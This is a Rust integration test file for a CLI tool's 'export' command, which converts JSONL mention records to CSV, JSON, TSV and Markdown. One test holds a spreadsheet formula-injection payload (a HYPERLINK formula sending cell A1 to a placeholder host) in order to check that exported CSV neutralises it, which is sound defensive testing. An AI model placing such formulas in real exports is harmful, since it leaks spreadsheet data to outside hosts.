use crate::common::{earful, fixture};

#[test]
fn csv_has_fixed_columns_and_flattens() {
    let out = earful()
        .args(["export", "--format", "csv"])
        .arg(fixture("records/mixed.jsonl"))
        .assert()
        .code(1)
        .get_output()
        .clone();
    let mut reader = csv::Reader::from_reader(&out.stdout[..]);
    let headers = reader.headers().unwrap().clone();
    assert_eq!(&headers[0], "id");
    assert_eq!(
        headers.iter().collect::<Vec<_>>(),
        earful::export::DEFAULT_COLUMNS.to_vec()
    );
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 3);
    let col = |name: &str| headers.iter().position(|h| h == name).unwrap();
    assert_eq!(&rows[0][col("author.handle")], "maria_k");
    assert_eq!(&rows[0][col("author.followers")], "120");
    assert_eq!(&rows[1][col("metrics.likes")], "12");
    assert_eq!(
        &rows[2][col("links")],
        "https://a.example | https://b.example"
    );
    assert_eq!(&rows[2][col("title")], "Café review");
    let stderr = String::from_utf8(out.stderr).unwrap();
    assert!(stderr.contains("mixed.jsonl:4: invalid JSON"), "{stderr}");
    assert!(
        stderr.contains("mixed.jsonl:6: expected an object, found an array"),
        "{stderr}"
    );
    assert!(
        stderr.contains("skipped 2 malformed lines of 5"),
        "{stderr}"
    );
}

#[test]
fn custom_columns_reach_unknown_fields() {
    earful()
        .args(["export", "--columns", "id,my_field.keep", "-"])
        .write_stdin("{\"id\":\"a\",\"my_field\":{\"keep\":[1,2]}}\n")
        .assert()
        .success()
        .stdout("id,my_field.keep\na,1 | 2\n");
}

#[test]
fn json_is_one_array_and_format_follows_the_file_name() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("out.json");
    earful()
        .args(["export", "-o"])
        .arg(&path)
        .write_stdin("{\"id\":\"a\"}\n{\"id\":\"b\"}\n")
        .assert()
        .success()
        .stdout("");
    let v: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(&path).unwrap()).unwrap();
    assert_eq!(v, serde_json::json!([{"id": "a"}, {"id": "b"}]));
}

#[test]
fn unknown_format_is_a_usage_error() {
    earful()
        .args(["export", "--format", "pdf"])
        .write_stdin("")
        .assert()
        .code(2)
        .stderr(predicates::str::contains(
            "earful export: unknown format \"pdf\"",
        ));
}

#[test]
fn strict_stops_at_the_first_bad_line() {
    earful()
        .args(["export", "--strict", "--format", "jsonl"])
        .arg(fixture("records/mixed.jsonl"))
        .assert()
        .code(1)
        .stdout(predicates::str::contains("x:2"))
        .stdout(predicates::str::contains("web:3").not())
        .stderr(predicates::str::contains("mixed.jsonl:4: invalid JSON"));
}

use predicates::prelude::PredicateBooleanExt;

/// Issue 14, item 10: `--columns ''` (or an empty name in the list) is a usage error before
/// anything is written, not a CSV of empty columns.
#[test]
fn regression_14_10_empty_columns_are_a_usage_error() {
    let dir = tempfile::tempdir().unwrap();
    let report = dir.path().join("report.csv");
    std::fs::write(&report, "kept\n").unwrap();
    for columns in ["", "id,,text"] {
        earful()
            .args(["export", "--columns", columns, "-o"])
            .arg(&report)
            .arg(fixture("records/airline-mentions.jsonl"))
            .assert()
            .code(2)
            .stdout("")
            .stderr(
                "earful export: --columns: expected comma-separated dotted paths, found an \
                 empty one\n",
            );
        assert_eq!(std::fs::read_to_string(&report).unwrap(), "kept\n");
    }
}

/// Issue 14 item 10: numbers in fields earful does not know keep their digits as written.
#[test]
fn big_numbers_keep_their_digits() {
    let line = r#"{"id":"a","text":"x","big":123456789012345678901234567890,"price":1.10}"#;
    for format in ["csv", "json", "jsonl"] {
        let out = earful()
            .args(["export", "-f", format, "--columns", "id,big,price"])
            .write_stdin(format!("{line}\n"))
            .output()
            .unwrap();
        assert_eq!(out.status.code(), Some(0));
        let text = String::from_utf8_lossy(&out.stdout);
        assert!(
            text.contains("123456789012345678901234567890"),
            "{format}: {text}"
        );
        assert!(text.contains("1.10"), "{format}: {text}");
    }
}

/// Issue 14 item 10 (decided, docs/schema.md "What a valid line is"): a field of the wrong
/// type is a bad line for a stage that reads it (filter), while export copies it as it is.
#[test]
fn a_wrongly_typed_field_is_bad_where_it_is_read() {
    let line = "{\"id\":\"a\",\"text\":5}\n";
    let out = earful()
        .args(["filter", ""])
        .write_stdin(line)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    assert!(out.stdout.is_empty());
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("<stdin>:1: invalid type"), "{stderr}");
    let out = earful()
        .args(["export", "--columns", "id,text"])
        .write_stdin(line)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0));
    assert_eq!(String::from_utf8_lossy(&out.stdout), "id,text\na,5\n");
}

/// Issue 15: the format follows `--format`, else the `-o` extension; an extension that names
/// no format is a usage error before the file is touched, never a silent CSV.
#[test]
fn format_follows_the_extension_and_an_unknown_one_is_an_error() {
    let dir = tempfile::tempdir().unwrap();
    let tsv = dir.path().join("out.TSV");
    earful()
        .args(["export", "--columns", "id,text", "-o"])
        .arg(&tsv)
        .write_stdin("{\"id\":\"a\",\"text\":\"x, y\"}\n")
        .assert()
        .success();
    assert_eq!(
        std::fs::read_to_string(&tsv).unwrap(),
        "id\ttext\na\tx, y\n"
    );
    for name in ["report.pdf", "report"] {
        let path = dir.path().join(name);
        earful()
            .args(["export", "-o"])
            .arg(&path)
            .write_stdin("{\"id\":\"a\"}\n")
            .assert()
            .code(2)
            .stderr(predicates::str::contains("cannot tell the format of"))
            .stderr(predicates::str::contains("pass --format"));
        assert!(!path.exists(), "{name} was created");
    }
    let forced = dir.path().join("report.txt");
    earful()
        .args(["export", "--format", "jsonl", "-o"])
        .arg(&forced)
        .write_stdin("{\"id\":\"a\"}\n")
        .assert()
        .success();
    assert_eq!(
        std::fs::read_to_string(&forced).unwrap(),
        "{\"id\":\"a\"}\n"
    );
}

/// Issue 15: a CSV read back with the `csv` crate gives the record's values, formula-looking
/// texts neutralised with a leading `'` (kept as they are with `--raw`), numbers left alone,
/// embedded newlines quoted, ids text; `--bom` starts the file with a byte order mark.
#[test]
fn csv_round_trips_and_is_excel_safe() {
    let title = "=HYPERLINK(\"http://x/?d=\"&A1,\"Click\")";
    let record = serde_json::json!({
        "id": "0012",
        "title": title,
        "text": "line one\nline \"two\", with comma",
        "author": {"handle": "@maria"},
        "sentiment": {"score": -0.4, "label": "negative"},
        "tags": ["-x", "y"],
    });
    let input = format!("{record}\n");
    let columns = "id,title,text,author.handle,sentiment.score,sentiment.label,tags";
    let read = |args: &[&str]| {
        let out = earful()
            .args(["export", "--columns", columns])
            .args(args)
            .write_stdin(input.clone())
            .assert()
            .success()
            .get_output()
            .stdout
            .clone();
        let mut reader = csv::Reader::from_reader(&out[..]);
        let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
        assert_eq!(rows.len(), 1);
        (out, rows[0].iter().map(str::to_owned).collect::<Vec<_>>())
    };
    let (_, safe) = read(&[]);
    assert_eq!(
        safe,
        [
            "0012",
            &format!("'{title}"),
            "line one\nline \"two\", with comma",
            "'@maria",
            "-0.4",
            "negative",
            "'-x | y",
        ]
    );
    let (_, raw) = read(&["--raw"]);
    assert_eq!(
        raw,
        [
            "0012",
            title,
            "line one\nline \"two\", with comma",
            "@maria",
            "-0.4",
            "negative",
            "-x | y",
        ]
    );
    let (bytes, _) = read(&["--bom"]);
    assert!(bytes.starts_with("\u{feff}id,".as_bytes()));
    let (bytes, _) = read(&[]);
    assert!(bytes.starts_with(b"id,"));
}

/// Issue 15: `-o x.md` is a Markdown table, one mention per row, `|` escaped, newlines
/// flattened.
#[test]
fn markdown_is_one_table_row_per_mention() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("week.md");
    earful()
        .args(["export", "-o"])
        .arg(&path)
        .write_stdin(
            "{\"id\":\"a\",\"platform\":\"x\",\"published\":\"2024-01-10T10:00:00Z\",\
             \"text\":\"late | again\\nand again\",\"labels\":[\"complaint\",\"urgent\"]}\n",
        )
        .assert()
        .success();
    assert_eq!(
        std::fs::read_to_string(&path).unwrap(),
        "| published | platform | author.handle | sentiment.label | labels | text |\n\
         | --- | --- | --- | --- | --- | --- |\n\
         | 2024-01-10T10:00:00Z | x |  |  | complaint \\| urgent | late \\| again and again |\n"
    );
}
